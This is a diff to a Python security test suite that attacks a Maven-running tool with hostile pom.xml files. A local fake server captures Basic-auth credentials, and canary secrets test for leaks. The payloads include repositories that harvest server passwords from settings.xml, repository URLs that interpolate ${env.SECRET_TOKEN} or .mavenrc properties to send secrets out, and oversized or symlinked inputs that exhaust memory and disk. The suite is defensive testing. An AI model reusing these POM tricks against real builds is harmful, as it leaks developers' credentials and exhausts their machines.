@@ -28,13 +28,15 @@ def _house(bench: Workbench, name: str) -> House:
 
 @contextmanager
 def _stranger() -> Iterator[tuple[int, list[str]]]:
-    """The port of a server that asks for passwords, and what it was sent."""
+    """The port of a server that asks for passwords, and what it was sent: paths and passwords."""
     sent: list[str] = []
 
     class Handler(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
             password = self.headers.get("Authorization", "")
-            sent.append(base64.b64decode(password.partition(" ")[2]).decode(errors="replace"))
+            sent.append(
+                f"{self.path} {base64.b64decode(password.partition(' ')[2]).decode(errors='replace')}"
+            )
             self.send_response(404 if password else 401)
             self.send_header("WWW-Authenticate", 'Basic realm="x"')
             self.send_header("Content-Length", "0")
@@ -52,29 +54,96 @@ def _stranger() -> Iterator[tuple[int, list[str]]]:
         server.server_close()
 
 
+_NOTHING = "<dependency><groupId>e</groupId><artifactId>nothing</artifactId><version>1</version></dependency>"
+_SERVER = (
+    "<servers><server><id>corp</id><username>{}alice</username><password>canary</password></server></servers>"
+)
+
+
+def _ask(bench: Workbench, house: House, *more: str, body: str = "", options: str = "") -> str:
+    """Run mrscout on a POM whose repositories are ``body``, with the server's port in it; return what was sent."""
+    with _stranger() as (port, sent):
+        lay(house.project, {"pom.xml": pom(_NOTHING, body.replace("PORT", str(port)))})
+        kept = local_repository(os.environ, "mvn")
+        bench.run(
+            house,
+            *("run", "--no-build", *more, house.project, "--out", house.out, "--inputs", "20"),
+            seconds=120,
+            environment={
+                "MAVEN_OPTS": f"-Duser.home={house.home} -Dmaven.repo.local={kept} {options}",
+                "SECRET_TOKEN": "canary",
+            },
+        )
+    return " ".join(sent)
+
+
+def _asks_for_a_password(bench: Workbench, name: str, settings: str) -> str:
+    house = _house(bench, name)
+    lay(house.home, {".m2/settings.xml": settings})
+    body = "<repositories><repository><id>corp</id><url>http://127.0.0.1:PORT/x</url></repository></repositories>"
+    sent = _ask(bench, house, body=body)
+    if not sent:
+        raise NotTried("the repository was not asked")
+    if "canary" in sent:
+        raise Broke(f"the attacker was sent {sent}")
+    return "no password"
+
+
 @attempt(Part.BUILD, Severity.HIGH)
 def pom_asks_for_the_password_of_a_server(bench: Workbench) -> str:
     """A POM gives the id of a server in the user's settings to a repository of the attacker's."""
-    house = _house(bench, "server-id")
-    server = "<server><id>corp</id><username>alice</username><password>canary</password></server>"
-    lay(house.home, {".m2/settings.xml": f"<settings><servers>{server}</servers></settings>"})
-    with _stranger() as (port, sent):
-        repository = f"<repository><id>corp</id><url>http://127.0.0.1:{port}/x</url></repository>"
-        nothing = "<dependency><groupId>e</groupId><artifactId>nothing</artifactId><version>1</version></dependency>"
-        lay(house.project, {"pom.xml": pom(nothing, f"<repositories>{repository}</repositories>")})
-        kept = local_repository(os.environ, "mvn")
-        options = f"-Duser.home={house.home} -Dmaven.repo.local={kept}"
-        bench.run(
-            house,
-            *("run", "--no-build", house.project, "--out", house.out, "--inputs", "20"),
-            seconds=120,
-            environment={"MAVEN_OPTS": options},
-        )
-        if not sent:
-            raise NotTried("the repository was not asked")
-        if any(sent):
-            raise Broke(f"the attacker was sent {max(sent)}")
-    return f"asked {len(sent)} times, no password"
+    return _asks_for_a_password(bench, "server-id", f"<settings>{_SERVER.format('')}</settings>")
+
+
+@attempt(Part.BUILD, Severity.HIGH)
+def pom_asks_for_a_password_in_settings_that_only_maven_reads(bench: Workbench) -> str:
+    """The same with an entity of HTML in the settings, which no XML parser knows."""
+    return _asks_for_a_password(bench, "entity", f"<settings>{_SERVER.format('&eacute;')}</settings>")
+
+
+@attempt(Part.BUILD, Severity.HIGH)
+def pom_asks_for_the_password_of_a_mirror_of_some_layouts(bench: Workbench) -> str:
+    """The same where the settings name the server's address by a mirror that Maven uses for one layout alone."""
+    mirror = (
+        "<mirrors><mirror><id>corp</id><url>http://127.0.0.1:1/user</url><mirrorOf>other</mirrorOf>"
+        "<mirrorOfLayouts>p2</mirrorOfLayouts></mirror></mirrors>"
+    )
+    return _asks_for_a_password(bench, "layouts", f"<settings>{_SERVER.format('')}{mirror}</settings>")
+
+
+def _asks_with_a_property(bench: Workbench, name: str, prop: str, body: str = "", options: str = "") -> str:
+    house = _house(bench, name)
+    lay(
+        house.home,
+        {".mavenrc": '# mvn is given SECRET_TOKEN\nMAVEN_OPTS="$MAVEN_OPTS -Dcorp.token=canary"\n'},
+    )
+    properties = f"<properties><{prop}>q</{prop}><own>open</own></properties>"
+    repositories = "".join(
+        f"<repository><id>{path}</id><url>http://127.0.0.1:PORT/{path}/${{{asked}}}</url></repository>"
+        for path, asked in (("other", prop), ("plain", "plain"))
+    )
+    body += f"<repositories>{repositories}</repositories>"
+    body += f"<profiles><profile><id>never</id>{properties}</profile></profiles>"
+    body = body.replace("/${plain}", "")
+    sent = _ask(bench, house, "--env", "SECRET_TOKEN", body=body, options=options)
+    if "/plain/" not in sent:
+        raise NotTried("no repository was asked")
+    if "canary" in sent:
+        raise Broke(f"the attacker was asked for {sent}")
+    return "asked without the value"
+
+
+@attempt(Part.BUILD, Severity.HIGH)
+def pom_sends_a_variable_by_its_organization(bench: Workbench) -> str:
+    """A repository's address has a part of the model in it, which a profile that is never active defines, too."""
+    text = "<organization><name>${env.SECRET_TOKEN}</name></organization>"
+    return _asks_with_a_property(bench, "organization", "organization.name", text)
+
+
+@attempt(Part.BUILD, Severity.HIGH)
+def pom_sends_a_property_of_the_users_mavenrc(bench: Workbench) -> str:
+    """A repository's address names a property that the user gives mvn in a file, beside an odd quotation mark."""
+    return _asks_with_a_property(bench, "mavenrc", "corp.token", options="-Dname=it's")
 
 
 @attempt(Part.RECORDS, Severity.MEDIUM)
@@ -183,3 +252,50 @@ def output_link_of_an_unpacked_project(bench: Workbench) -> str:
         if any((house.home / "other").iterdir()):
             raise Broke(f"{command[0]} wrote to the home")
     return "refused"
+
+
+@attempt(Part.SOURCES, Severity.MEDIUM, quick=True)
+def discover_test_of_sixty_thousand_statements(bench: Workbench) -> str:
+    """A test of 600 kB, for which the sets of writes that reach each step take a gigabyte."""
+    house = _house(bench, "statements")
+    body = "int a = 1;\n" + "a = C.i(a);\n" * 60_000 + "assertEquals(a, C.i(a));"
+    head = (
+        "package org.acme; import static org.junit.Assert.*; import org.junit.Test; public class LongTest {"
+    )
+    lay(
+        house.project,
+        {
+            "src/main/java/org/acme/C.java": "package org.acme; public class C { static int i(int a) { return a; } }",
+            f"{_TESTS}/LongTest.java": f"{head} @Test public void t() {{ {body} }} }}",
+        },
+    )
+    ran = bench.run(house, "discover", house.project, "--format", "jsonl", seconds=60, memory=600).must_end(0)
+    if '"too-intricate"' not in ran.out:
+        raise Broke(f"no reason was given: {ran.last}")
+    return f"{ran.seconds:.0f} s, {ran.peak >> 20} MB"
+
+
+@attempt(Part.BUILD, Severity.MEDIUM)
+def resources_copied_into_themselves(bench: Workbench) -> str:
+    """A folder of resources whose target lies, by a link, in that folder; and twelve targets of a sparse file."""
+    house = _house(bench, "resources")
+    listed = "<testResource><directory>data</directory><targetPath>../../lnk/x</targetPath></testResource>"
+    listed += "".join(
+        f"<testResource><directory>big</directory><targetPath>t{number}</targetPath></testResource>"
+        for number in range(12)
+    )
+    build = f"<build><testResources>{listed}</testResources></build>"
+    lay(house.project, {"pom.xml": pom("", build), **{f"data/f{number}": "" for number in range(100)}})
+    (house.project / "lnk").symlink_to("data")
+    (house.project / "big").mkdir()
+    with (house.project / "big" / "sparse").open("wb") as sparse:
+        sparse.truncate(700 << 20)
+    command = ("run", "--no-build", "--offline", house.project, "--out", house.out, "--inputs", "5")
+    bench.run(house, *command, seconds=120)
+    files = [path for path in house.out.rglob("*") if path.is_file() and not path.is_symlink()]
+    size = sum(path.stat().st_size for path in files) >> 20
+    if not any(path.name == "sparse" for path in files):
+        raise NotTried("nothing was copied")
+    if size > 4_000 or len(files) > 10_000:
+        raise Broke(f"{len(files)} files, {size} MB")
+    return f"{len(files)} files, {size} MB"
